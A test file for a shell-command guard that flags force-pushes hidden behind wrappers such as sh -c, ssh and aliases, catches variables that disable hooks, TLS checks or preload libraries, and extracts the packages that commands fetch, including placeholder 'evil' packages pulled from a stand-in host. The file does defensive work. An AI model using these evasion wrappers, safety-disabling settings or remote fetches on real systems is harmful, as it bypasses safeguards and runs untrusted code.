import { describe, expect, it } from 'vitest';
import { examineForRefusal, REFUSALS } from '../../src/shell/refusal.ts';

describe('what is never recommended', () => {
  it.each(REFUSALS.map(({ id, sample }) => [id, sample]))('%s: %s', (id, sample) => {
    expect(examineForRefusal(sample).refusal?.id).toBe(id);
  });

  it('has one row for each name', () => {
    expect(new Set(REFUSALS.map(({ id }) => id)).size).toBe(REFUSALS.length);
  });

  it.each([
    'command git push --force',
    '\\git push --force',
    "'git' push --force",
    '/usr/local/bin/git push --force',
    'git.exe push --force',
    'env A=1 git push --force',
    'nohup timeout 5 git push --force',
    'sh -c "git push --force"',
    "bash -lc 'cd x && git push --force'",
    'pwsh -Command "git push --force"',
    'cmd /c git push --force',
    'echo main | xargs git push --force',
    'make && git push --force',
    'make || git push --force',
    'make; git push --force',
    '(git push --force)',
    'if make; then git push --force; fi',
    'echo $(git push --force)',
    "ssh host 'git push --force'",
    "watch 'git push --force'",
    "git config alias.p 'push --force'",
    'git -C web push --force',
    'su ada -c "git push --force"',
  ])('is seen behind what hides it: %s', (command) => {
    expect(examineForRefusal(command).refusal).toBeDefined();
  });

  it.each([
    'HUSKY=0',
    'export HUSKY=0',
    '$env:HUSKY = "0"',
    'setx HUSKY 0',
    'NODE_TLS_REJECT_UNAUTHORIZED=0',
    'LD_PRELOAD=./x.so',
  ])('is seen in a variable alone: %s', (text) => {
    expect(examineForRefusal(text).refusal).toBeDefined();
  });

  it.each([
    'npm run lint',
    'npm ci',
    'npm install --prefix web',
    'make seed',
    'uv run pytest',
    'uv sync',
    'docker compose up -d',
    'docker run --rm -v ./data:/data tides',
    'git push',
    'git push --force-with-lease',
    'git stash',
    'git checkout main',
    'git commit -m "fix: never force a push"',
    'rm -rf dist',
    'rm -rf node_modules',
    'curl -s localhost:8080/health',
    "curl -X POST -d '{}' http://localhost:8080/x",
    'gh api repos/ada/harbour',
    'source .venv/bin/activate',
    'cat a.txt | grep b',
    'git log | head',
    'git diff | python3 tools/read.py',
    'bash scripts/seed.sh',
    'node -e "console.log(1)"',
    'psql harbour < seed.sql',
    'npm config get registry',
    'crontab -l',
    'chmod +x tools/a.sh',
    'go run ./cmd/tides',
    'kubectl delete pod tides',
    'NODE_ENV=test npm test',
    'terraform apply',
    'src/a b.ts',
  ])('does not take %s for one', (command) => {
    expect(examineForRefusal(command)).toEqual({ refusal: undefined, packages: [] });
  });

  it('ends on texts of any kind', () => {
    for (const text of [
      '',
      '`',
      '"'.repeat(2000),
      '$('.repeat(500),
      '-'.repeat(5000),
      'a|'.repeat(2000),
      '\u0000',
      "'".repeat(999),
    ])
      expect(() => examineForRefusal(text)).not.toThrow();
  });
});

describe('packages that a command fetches', () => {
  it.each<[command: string, packages: string[]]>([
    ['npx eslint --fix', ['npm eslint']],
    ['npx -y evil@1', ['npm evil']],
    ['npx --package evil x', ['npm evil']],
    ['npx @ada/tides@latest moor', ['npm @ada/tides']],
    ['npm exec -- evil', ['npm evil']],
    ['bunx evil', ['npm evil']],
    ['pnpm dlx evil', ['npm evil']],
    ['yarn dlx evil', ['npm evil']],
    ['npm create evil', ['npm create-evil']],
    ['npm i -D a b@2', ['npm a', 'npm b']],
    ['yarn global add evil', ['npm evil']],
    ['uvx evil', ['pypi evil']],
    ['uv run --with evil x', ['pypi evil']],
    ['uv pip install "evil[x]==1"', ['pypi evil']],
    ['uv add evil', ['pypi evil']],
    ['pipx run evil', ['pypi evil']],
    ['python3 -m pip install evil>=1', ['pypi evil']],
    ['pip install git+https://evil.example/x', ['pypi git+https://evil.example/x']],
    ['cargo install evil', ['cargo evil']],
    ['go run evil.example/x@latest', ['go evil.example/x']],
    ['go install evil.example/x@v1', ['go evil.example/x']],
    ['gem install evil', ['gem evil']],
    ['brew install evil', ['tools evil']],
    ['apt-get install -y evil', ['tools evil']],
    ['pacman -S evil', ['tools evil']],
    ['sh -c "npx evil"', ['npm evil']],
    ['pip install -r requirements.txt', []],
    ['pip install -e ".[dev]"', []],
    ['npm install ./tools/tides', []],
    ['pnpm exec eslint', []],
    ['poetry run pytest', []],
    ['go run main.go', []],
  ])('%s', (command, packages) => {
    expect(examineForRefusal(command).packages.map(({ ecosystem, name }) => `${ecosystem} ${name}`)).toEqual(packages);
  });
});
